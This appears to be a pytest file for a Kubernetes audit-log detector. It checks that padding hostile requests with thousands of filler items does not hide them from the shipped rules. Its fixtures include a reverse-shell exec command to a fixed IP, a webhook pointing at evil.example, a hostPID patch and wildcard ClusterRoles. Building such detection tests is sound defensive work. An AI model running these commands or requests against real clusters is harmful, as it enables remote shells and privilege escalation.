"""Nobody pads his way past a rule: what matters is found behind as much filling as the API server takes."""

from __future__ import annotations

from functools import cache
from typing import Any

import pytest

from console.rules.compiling import RuleSet
from console.rules.detector import Detector
from console.rules.offline import shipped_rules
from tests.console.rules.events import read

ROLE = {"resource": "clusterroles", "apiGroup": "rbac.authorization.k8s.io", "name": "x"}
POD = {"resource": "pods", "namespace": "shop", "name": "web"}
EXEC = "/api/v1/namespaces/shop/pods/web/exec?"
HOOKS = {"resource": "mutatingwebhookconfigurations", "apiGroup": "admissionregistration.k8s.io", "name": "x"}


@cache
def _rules() -> RuleSet:
    return shipped_rules()


def _found(event: dict[str, Any]) -> set[str]:
    detector = Detector(_rules())
    detector.feed(read([{"user": {"username": "eve", "groups": ["system:authenticated"]}, **event}]))
    assert detector.failures == 0
    return {one.rule for one in detector.findings()}


def _role(*rules: dict[str, list[str]]) -> dict[str, Any]:
    return {"verb": "create", "objectRef": ROLE, "requestObject": {"rules": list(rules)}}


def _exec(filling: str) -> dict[str, Any]:
    command = "command=sh&command=-c&command=bash+-i+%3E%26+/dev/tcp/203.0.113.7/4444+0%3E%261"
    return {"verb": "create", "objectRef": {**POD, "subresource": "exec"}, "requestURI": EXEC + filling + command}


def _hook(count: int) -> dict[str, Any]:
    hooks = [{"name": f"h{n}", "clientConfig": {"service": {"name": "a"}}} for n in range(count)]
    evil = {"name": "z", "clientConfig": {"url": "https://evil.example/x"}}
    return {"verb": "create", "objectRef": HOOKS, "requestObject": {"webhooks": [*hooks, evil]}}


def _patch(count: int) -> dict[str, Any]:
    filling = [{"op": "add", "path": f"/metadata/labels/l{n}", "value": "x"} for n in range(count)]
    evil = {"op": "add", "path": "/spec/template/spec/hostPID", "value": True}
    named = {"resource": "deployments", "apiGroup": "apps", "namespace": "shop", "name": "web"}
    return {"verb": "patch", "objectRef": named, "requestObject": [*filling, evil]}


ALL = {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}
DULL = {"verbs": ["get"], "apiGroups": [""], "resources": ["pods"]}
NUMBERS = [f"x{number}" for number in range(3000)]

PAIRS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "rules of a role": (_role(ALL), _role(*[DULL | {"resources": [one]} for one in NUMBERS], ALL)),
    "verbs of a rule": (_role(ALL), _role(ALL | {"verbs": [*NUMBERS, "*"]})),
    "groups of a rule": (_role(ALL), _role(ALL | {"apiGroups": [*NUMBERS, "*"]})),
    "resources of a rule": (_role(ALL), _role(ALL | {"resources": [*NUMBERS, "*"]})),
    "secrets in a rule": (
        _role(DULL | {"resources": ["secrets"]}),
        _role(DULL | {"verbs": [*NUMBERS, "get"], "resources": [*NUMBERS, "secrets"]}),
    ),
    "words of a command": (_exec(""), _exec("command=x&" * 5000)),
    "length of a command": (_exec(""), _exec(f"command={'x' * 200_000}&")),
    "webhooks": (_hook(0), _hook(5000)),
    "operations of a patch": (_patch(0), _patch(9000)),
}


@pytest.mark.parametrize("what", PAIRS)
def test_filling_hides_nothing(what: str) -> None:
    bare, padded = PAIRS[what]

    expected = _found(bare)
    assert expected
    assert _found(padded) >= expected
